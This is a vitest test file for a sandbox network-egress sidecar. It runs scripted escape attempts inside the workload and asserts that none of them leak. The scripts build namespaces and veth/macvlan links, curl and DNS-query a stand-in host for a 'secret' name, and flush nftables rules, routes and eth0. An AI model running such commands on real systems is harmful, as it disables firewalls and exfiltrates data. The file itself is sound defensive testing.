/**
 * Row 18: namespaces of the workload's own. Row 24: resolvers on loopback. Row 26: other address families,
 * foreign sources.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { CommandResult } from "../../src/netns/command.ts";
import { FAMILIES, skipWithoutFamily } from "../support/families.ts";
import { type JsonServer, startJsonServer } from "../support/json-server.ts";
import { useLab } from "../support/use-lab.ts";
import { attack, attackArgv, deniedAddress, leaksOf, POLICY, startAttack } from "./attack.ts";

const RESOLVER = "127.0.0.11";

const lab = useLab();
let resolver: JsonServer;
const made = new AsyncDisposableStack();
beforeAll(async () => {
  const argv = attackArgv("loopback_resolver", [RESOLVER, "53", "198.51.100.20", "0"]);
  const high = attackArgv("loopback_resolver", [RESOLVER, "40053", "198.51.100.20", "0"]);
  made.use(await startJsonServer(lab.sandbox, high));
  resolver = made.use(await startJsonServer(lab.sandbox, argv));
  await lab.startSidecar({ policy: POLICY, env: { OPENSANDBOX_EGRESS_DNS_UPSTREAM: RESOLVER } });
});
afterAll(async () => {
  await made.disposeAsync();
});

describe("row 18", () => {
  test("a user and network namespace of the workload's own leads nowhere", async () => {
    const script = [
      "ip link set lo up; ip link add v0 type veth peer name v1; ip link set v0 up; ip link set v1 up",
      "ip addr add 203.0.113.18/24 dev v0; ip route add default dev v0",
      "ip link set v1 netns 1; ip link add m0 link eth0 type macvlan",
      "curl --silent --max-time 1 http://203.0.113.181/; dig +tries=1 +time=1 @203.0.113.53 secret.three.example.org",
      "true",
    ];
    for (const namespaces of ["-Urn", "-Urnm", "-n"]) {
      expect(await leaksOf(lab, () => inside(namespaces, script.join("; ")))).toEqual([]);
    }
  });

  test("root of a user namespace cannot touch the rules of this network namespace", async () => {
    const script =
      "nft flush ruleset; nft delete table inet opensandbox; nft delete table netdev opensandbox_guard; ip link set eth0 down; ip route flush all; true";
    await inside("-Ur", script);
    await inside("-Urm", script);
    const leaks = await leaksOf(lab, () => attack(lab, "everyday", "reach", "203.0.113.182"));
    expect(leaks).toEqual([]);
    expect(await lab.dig("still.wild.example.org")).toMatchObject({ addresses: ["198.51.100.20"] });
  });
});

describe("row 24", () => {
  test("a resolver on loopback is asked by the sidecar alone, on any port", async () => {
    const before = resolver.lines.length;
    expect(await lab.dig(`@${RESOLVER}`, "secret.three.example.org")).toMatchObject({ rcode: "NXDOMAIN" });
    expect(await attack(lab, "everyday", "ports", RESOLVER, "40053")).toEqual({
      "tcp 40053": "ECONNREFUSED",
      "udp 40053": "EPERM",
    });
    await attack(lab, "lookups", "ask", RESOLVER, "secret.three.example.org", "127.0.0.1");
    expect(resolver.lines.slice(before)).toEqual([]);
    expect(await lab.dig(`@${RESOLVER}`, "asked.wild.example.org")).toMatchObject({
      addresses: ["198.51.100.20"],
    });
  });

  test("no tap on lo sees a mark of the sidecar's lookups", async () => {
    await using watch = await startAttack(lab, "marks", "watch");
    for (let n = 0; n < 20; n++) await lab.dig(`lo${n}.wild.example.org`);
    expect(watch.lines.slice(1)).toEqual([]);
  });
});

describe.each(FAMILIES)("row 26, $name", (family) => {
  test("no other address family sends anything", async (context) => {
    skipWithoutFamily(context, lab, family);
    expect(await leaksOf(lab, () => attack(lab, "families", "families", deniedAddress(family, 26)))).toEqual(
      [],
    );
  });

  test("nothing leaves from a foreign source that a socket option allows, nor over MPTCP", async (context) => {
    skipWithoutFamily(context, lab, family);
    const leaks = await leaksOf(lab, () =>
      attack(lab, "families", "sources", family.sandbox, deniedAddress(family, 27), family.wild),
    );
    expect(leaks).toEqual([]);
  });
});

function inside(namespaces: string, script: string): Promise<CommandResult> {
  return lab.asWorkload(["unshare", namespaces, "sh", "-c", script]);
}
